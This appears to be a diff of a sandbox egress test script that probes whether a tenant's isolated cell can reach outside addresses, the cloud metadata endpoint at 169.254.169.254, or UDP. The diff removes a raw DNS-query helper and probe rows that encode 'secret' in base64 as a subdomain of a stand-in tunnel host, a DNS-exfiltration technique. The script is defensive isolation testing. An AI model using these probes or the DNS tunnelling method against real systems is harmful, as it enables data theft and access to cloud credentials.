@@ -19,7 +19,7 @@ KEY = f"sk-proof-{secrets.token_hex(16)}"
 
 # In the cell: one attempt by its name, one line of what came of it.
 INSIDE = r"""
-import os, socket, struct, sys, urllib.error, urllib.request
+import os, socket, sys, urllib.error, urllib.request
 
 def answer(request, proxy=None):
     handlers = [urllib.request.ProxyHandler({"http": proxy, "https": proxy} if proxy else {})]
@@ -28,13 +28,6 @@ def answer(request, proxy=None):
             return f"{reply.status} {reply.read(4096).decode()}"
     except urllib.error.HTTPError as error:
         return str(error.code)
-
-def resolved(name, kind):
-    query = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
-        link.settimeout(10)
-        link.sendto(query + struct.pack("!2H", kind, 1), ("127.0.0.1", 53))
-        return {0: "answered", 5: "REFUSED"}.get(link.recv(512)[3] & 15, "failed")
 
 def model(_):
     body = b'{"model": "parrot", "messages": [{"role": "user", "content": "hello"}]}'
@@ -150,7 +143,7 @@ def main(tenant):
             ("that key, in the cell's files and variables", inside(tenant, "key", KEY.encode().hex()), lambda said: said == "nowhere")]
     question, said = held_and_denied(tenant)
     rows += [(f"{UNLISTED}, held and denied", said, lambda said: said == "403")]
-    refused = lambda said: not said.startswith("200") and "HTTP/1.1 200" not in said and said != "answered"
+    refused = lambda said: not said.startswith("200") and "HTTP/1.1 200" not in said and "Traceback" not in said
     for what, *words in (
         ("a proxied connection to an address", "connect", f"{SOMEWHERE}:443"),
         ("the same, to the metadata address", "connect", "169.254.169.254:80"),
@@ -158,8 +151,6 @@ def main(tenant):
         ("a direct connection to an address", "direct", f"{SOMEWHERE} 443"),
         ("the same, by IPv6", "direct", f"{SOMEWHERE_6} 443"),
         ("a packet (UDP, QUIC's port)", "packet", SOMEWHERE),
-        ("a name that carries data out", "resolved", "c2VjcmV0.tunnel.example.net", "1"),
-        ("the same as TXT", "resolved", "c2VjcmV0.tunnel.example.net", "16"),
     ):
         rows.append((what, inside(tenant, *words), refused))
     print(f"\nWhat {tenant} reaches")
